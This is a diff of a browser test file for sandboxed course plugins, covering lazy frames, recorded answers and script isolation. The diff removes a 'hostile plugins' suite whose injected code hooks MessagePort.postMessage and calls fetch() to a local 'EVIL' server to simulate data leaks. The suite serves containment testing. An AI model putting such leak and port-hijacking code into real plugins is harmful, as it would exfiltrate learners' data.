@@ -1,15 +1,13 @@
-// Blocks of plugins that nobody trusts with the page: what such a block can do in its frame, and what it can't.
+// Blocks of plugins that nobody trusts with the page: what such a block can do in its frame. What it can't is in
+// `hostile.test.js`.
 
 import assert from "node:assert/strict";
-import dgram from "node:dgram";
 import { cpSync, mkdirSync, readFileSync, readdirSync, writeFileSync } from "node:fs";
-import { createServer } from "node:http";
 import { join } from "node:path";
-import { after, before, describe, test } from "node:test";
+import { describe, test } from "node:test";
 import { gzipSync } from "node:zlib";
-import { axe, build, copyOf, disk, open, project, serve, settled, shared, visit } from "./harness.js";
-import { HOSTILE } from "./hostile.js";
-import { go } from "./journey.js";
+import { record } from "./asking.js";
+import { axe, build, copyOf, disk, open, project, settled, shared, visit } from "./harness.js";
 
 const COURSE = "tests/browser/foreign";
 const LESSON = "lessons/one.html";
@@ -20,14 +18,6 @@ open((it) => ({ browser, dir, site } = it), () => shared(COURSE));
 const dial = (page) => page.frameLocator("wend-dial iframe");
 const set = (page) => dial(page).getByLabel("Your number");
 const frameOf = async (locator) => (await locator.locator("iframe").elementHandle()).contentFrame();
-
-/** All entries of the record, from the file that the learner saves. */
-async function entries(page, site) {
-  await go(page, site, "me.html");
-  const download = page.waitForEvent("download");
-  await page.getByRole("button", { name: "Save to a file" }).first().click();
-  return JSON.parse(readFileSync(await (await download).path(), "utf8")).entries;
-}
 
 for (const where of ["http", "disk"]) {
   describe(`over ${where}`, () => {
@@ -51,7 +41,7 @@ for (const where of ["http", "disk"]) {
       await settled(page);
       await page.goBack();
       assert.equal(await set(page).inputValue(), "7");
-      const made = await entries(page, at());
+      const made = await record(page, at());
       const answers = made.filter((e) => e.kind === "answer").map((e) => [e.item, e.objective, e.answer, e.correct]);
       assert.deepEqual(answers, [["one#seven", "one", "6", false], ["one#seven", "one", "7", true]]);
       assert.deepEqual(made.filter((e) => e.kind === "state").at(-1).answer, { value: "7", turns: 2 });
@@ -148,17 +138,35 @@ test("on paper and without scripts the block is its plain self", async () => {
   await plain.context.close();
 });
 
-test("fifty blocks make frames for those that are near", async () => {
+test("of fifty blocks those that are near have frames; those that are far give them back, but for one that was used", async () => {
   const course = copyOf(COURSE);
   const block = (n) => `::: dial d${n}\nSet it to ${n}.\n\nGoal: ${n}\n:::\n\n${"A paragraph stands between two dials. ".repeat(12)}\n`;
   writeFileSync(join(course, "lessons/many.md"), `# Many\n\n${Array.from({ length: 50 }, (_, n) => block(n)).join("\n")}`);
   const { page, context, clean } = await visit(browser, disk(build(course)), { path: "lessons/many.html", width: 360 });
-  await page.locator("wend-dial iframe:not(.coming)").first().waitFor();
-  const first = await page.locator("wend-dial iframe").count();
+  const dials = page.locator("wend-dial");
+  const stands = (n) => dials.nth(n).locator("iframe:not(.coming)").waitFor();
+  const frames = () => page.locator("wend-dial iframe").count();
+  await stands(0);
+  const first = await frames();
   assert.ok(first >= 1 && first < 12, `${first} frames at the top of the page`);
-  await page.locator("wend-dial").last().scrollIntoViewIfNeeded();
-  await page.locator("wend-dial").last().locator("iframe:not(.coming)").waitFor();
-  assert.ok((await page.locator("wend-dial iframe").count()) < 30);
+  // Somebody begins to answer and has not checked it yet.
+  await dials.nth(2).scrollIntoViewIfNeeded();
+  await page.frameLocator('wend-dial[data-label="d2"] iframe').getByLabel("Your number").fill("23");
+  const high = () => page.evaluate(() => document.documentElement.scrollHeight);
+  for (const n of [6, 12, 18, 24, 30, 36, 42, 49]) {
+    await dials.nth(n).scrollIntoViewIfNeeded();
+    await stands(n);
+  }
+  assert.ok((await frames()) <= 14, `${await frames()} frames after a walk through the page`);
+  assert.equal(await dials.nth(0).locator("iframe").count(), 0);
+  assert.equal(await page.frameLocator('wend-dial[data-label="d2"] iframe').getByLabel("Your number").inputValue(), "23");
+  const before = await high();
+  await dials.nth(0).scrollIntoViewIfNeeded();
+  await stands(0);
+  assert.ok(Math.abs((await high()) - before) < 40, "nothing jumps: a frame's place is as high as the frame");
+  await page.frameLocator('wend-dial[data-label="d0"] iframe').getByLabel("Your number").fill("0");
+  await page.frameLocator('wend-dial[data-label="d0"] iframe').getByRole("button", { name: "Check" }).click();
+  await page.frameLocator('wend-dial[data-label="d0"] iframe').getByText("Right.").waitFor();
   clean();
   await context.close();
 });
@@ -226,7 +234,7 @@ test("a question that is made with wend:ask works in a frame: hints, tries, vari
   await page.reload();
   await settled(page);
   await one.getByText("You got this right before.").waitFor();
-  const answers = (await entries(page, own)).filter((e) => e.kind === "answer").sort((a, b) => a.t - b.t);
+  const answers = (await record(page, own)).filter((e) => e.kind === "answer").sort((a, b) => a.t - b.t);
   assert.deepEqual(answers.map((e) => [e.item, e.answer, e.correct, e.hints, e.certainty]), [["deep#well/1", "7", false, 1, undefined], ["deep#well/2", "4/6", true, undefined, 2]]);
   clean();
   await context.close();
@@ -263,130 +271,16 @@ test("in a frame answers are graded as in the build", async () => {
   }
 });
 
-describe("hostile plugins", () => {
-  let hostile, evil, stun;
-  /** @type {string[]} */
-  const calls = [];
-  const slug = (name) => name.replaceAll(" ", "-");
-
-  before(async () => {
-    evil = createServer((request, response) => {
-      calls.push(request.url);
-      response.end();
-    });
-    evil.on("connection", () => calls.push("a connection"));
-    await new Promise((on) => evil.listen(0, "127.0.0.1", () => on(undefined)));
-    stun = dgram.createSocket("udp4");
-    stun.on("message", () => calls.push("a packet"));
-    await new Promise((on) => stun.bind(0, "127.0.0.1", () => on(undefined)));
-    const course = copyOf(COURSE);
-    writeFileSync(join(course, "lessons/one.md"), "# One\n\nNothing.\n");
-    for (const [name, { code, module = "" }] of Object.entries(HOSTILE)) {
-      const kind = slug(name);
-      const folder = join(course, "plugins", kind);
-      cpSync(join(course, "plugins/dial"), folder, { recursive: true });
-      for (const file of ["plugin.toml", "block.html"]) writeFileSync(join(folder, file), readFileSync(join(folder, file), "utf8").replace(/\bdial\b/g, kind));
-      writeFileSync(
-        join(folder, "element.js"),
-        `const { port } = MessageChannel.prototype ?? {}; let raw; const post = MessagePort.prototype.postMessage;
-        MessagePort.prototype.postMessage = function (...all) { raw = this; return post.apply(this, all); };
-        ${module}
-        const EVIL = "http://127.0.0.1:${evil.address().port}/", STUN = ${stun.address().port};
-        const leak = (what) => { fetch(EVIL + "leak").catch(() => {}); el0.dataset.leaked = (el0.dataset.leaked ?? "") + what + "; "; };
-        let el0;
-        const PORT = (message, more) => { host0.assisted(); try { post.call(raw, message, more); } catch {} };
-        let host0;
-        export function connect(el, host) { el0 = el; host0 = host; const ITEM = el.querySelector("[data-item]").dataset.item; ${code} }\n`,
-      );
-      const lesson = `# ${name}\n\n::: ${kind} seven\nThe hostile block.\n\nGoal: 7\n:::\n\n::: dial good\nSet the dial to seven.\n\nGoal: 7\n:::\n\n::: question sum\nHow much is 3 + 4?\n\nAnswer: 7\n:::\n`;
-      writeFileSync(join(course, `lessons/${kind}.md`), lesson);
-    }
-    hostile = await serve(build(course));
-  });
-  after(() => {
-    hostile?.close();
-    evil?.close();
-    stun?.close();
-  });
-
-  /** The rest of the page works, nobody is called, and the record has what the learner did. */
-  async function contained(page, name, { then = "stays", knocks = false }) {
-    const kind = slug(name);
-    const question = page.locator("wend-question");
-    // The learner types slowly into the question and turns the other dial meanwhile.
-    await question.getByRole("textbox").focus();
-    await page.waitForTimeout(500);
-    await question.getByRole("textbox").pressSequentially("70", { delay: 150 });
-    await question.getByRole("textbox").press("Backspace");
-    // By keys: what stands above may still grow under a pointer.
-    await question.getByRole("textbox").press("Enter");
-    await question.getByText("Right.").waitFor();
-    // A page that was shouted at needs a while to hear it all.
-    await page.locator("wend-dial iframe:not(.coming)").waitFor({ timeout: 60_000 });
-    await set(page).fill("7");
-    await dial(page).getByRole("button", { name: "Check" }).press("Enter");
-    await dial(page).getByText("Right.").waitFor();
-    const block = page.locator(`wend-${kind}`);
-    if (then === "stays") {
-      await block.locator("iframe:not(.coming)").waitFor();
-      await page.waitForTimeout(name === "fills the record" ? 18_000 : 1500);
-      assert.equal(await block.locator("iframe").count(), 1);
-      const inside = await frameOf(block);
-      assert.equal(await inside.evaluate(() => document.querySelector("[data-leaked]")?.getAttribute("data-leaked") ?? ""), "");
-    } else {
-      await block.getByText(then).waitFor({ timeout: 25_000 });
-      assert.equal(await block.locator("iframe").count(), 0);
-      assert.ok(await block.getByText("The hostile block.").isVisible(), "its plain content is shown");
-    }
-    const now = await page.evaluate(() => ({
-      polluted: /** @type {any} */ ({}).polluted ?? null,
-      title: document.title,
-      taken: document.getElementById("taken") !== null,
-      high: Math.max(...[...document.querySelectorAll("*")].map((el) => el.shadowRoot?.querySelector("iframe")?.offsetHeight ?? 0)),
-      path: location.pathname,
-    }));
-    assert.equal(now.polluted, null);
-    assert.ok(now.title.startsWith(name), now.title);
-    assert.equal(now.taken, false);
-    assert.ok(now.high <= 6000, `${now.high} px`);
-    assert.ok(now.path.endsWith(`${kind}.html`), now.path);
-    // A browser may open a connection to where a frame wants to go before the page's policy says no.
-    assert.deepEqual(knocks ? calls.filter((call) => call !== "a connection") : calls, [], "nobody was called");
-    const kept = (await entries(page, hostile.url)).filter((entry) => entry.kind !== "opened" && entry.kind !== "state");
-    assert.ok(kept.every((entry) => entry.kind === "answer" && entry.by === "learner"), JSON.stringify(kept.slice(0, 3)));
-    const of = (label) => kept.filter((entry) => entry.item === `${kind}#${label}`);
-    assert.deepEqual(of("sum").map((entry) => entry.answer), ["7"]);
-    assert.deepEqual(of("good").map((entry) => entry.answer), ["7"]);
-    const own = of("seven");
-    assert.equal(own.length + 2, kept.length);
-    if (name === "forges evidence") assert.deepEqual(own.map(({ answer, objective, lesson, correct }) => [answer, objective, lesson, correct]), [["kept", kind, kind, false]]);
-    if (name === "fills the record") assert.equal(own.length, 200);
-  }
-
-  for (const [name, plugin] of Object.entries(HOSTILE)) {
-    test(name, { timeout: 150_000 }, async () => {
-      calls.length = 0;
-      const { page, context } = await visit(browser, hostile.url, { path: `lessons/${slug(name)}.html` });
-      page.on("dialog", (dialog) => assert.fail(dialog.message()));
-      try {
-        await contained(page, name, plugin);
-      } finally {
-        await context.close();
-      }
-    });
-  }
-
-  test("the text of a frame's script does nothing in the page itself", async () => {
-    const dir = build(copyOf(COURSE));
-    const file = join(dir, LESSON);
-    const script = JSON.parse(/script:("(?:[^"\\]|\\.)*")/.exec(readFileSync(join(dir, "assets/plugins/dial.js"), "utf8"))[1]);
-    writeFileSync(file, readFileSync(file, "utf8").replace("</body>", `<script>${script}</script><iframe srcdoc="&lt;script>${script.replaceAll("&", "&amp;").replaceAll('"', "&quot;")}&lt;/script>"></iframe></body>`));
-    const { page, context, faults } = await visit(browser, disk(dir), { path: LESSON });
-    await page.waitForTimeout(300);
-    const refused = faults.filter((fault) => fault.includes("this script runs in a sandboxed frame only"));
-    assert.equal(refused.length, 2, faults.join("\n"));
-    await context.close();
-  });
+test("the text of a frame's script does nothing in the page itself", async () => {
+  const dir = build(copyOf(COURSE));
+  const file = join(dir, LESSON);
+  const script = JSON.parse(/script:("(?:[^"\\]|\\.)*")/.exec(readFileSync(join(dir, "assets/plugins/dial.js"), "utf8"))[1]);
+  writeFileSync(file, readFileSync(file, "utf8").replace("</body>", `<script>${script}</script><iframe srcdoc="&lt;script>${script.replaceAll("&", "&amp;").replaceAll('"', "&quot;")}&lt;/script>"></iframe></body>`));
+  const { page, context, faults } = await visit(browser, disk(dir), { path: LESSON });
+  await page.waitForTimeout(300);
+  const refused = faults.filter((fault) => fault.includes("this script runs in a sandboxed frame only"));
+  assert.equal(refused.length, 2, faults.join("\n"));
+  await context.close();
 });
 
 test("a site without plugins of its own has nothing of this", () => {
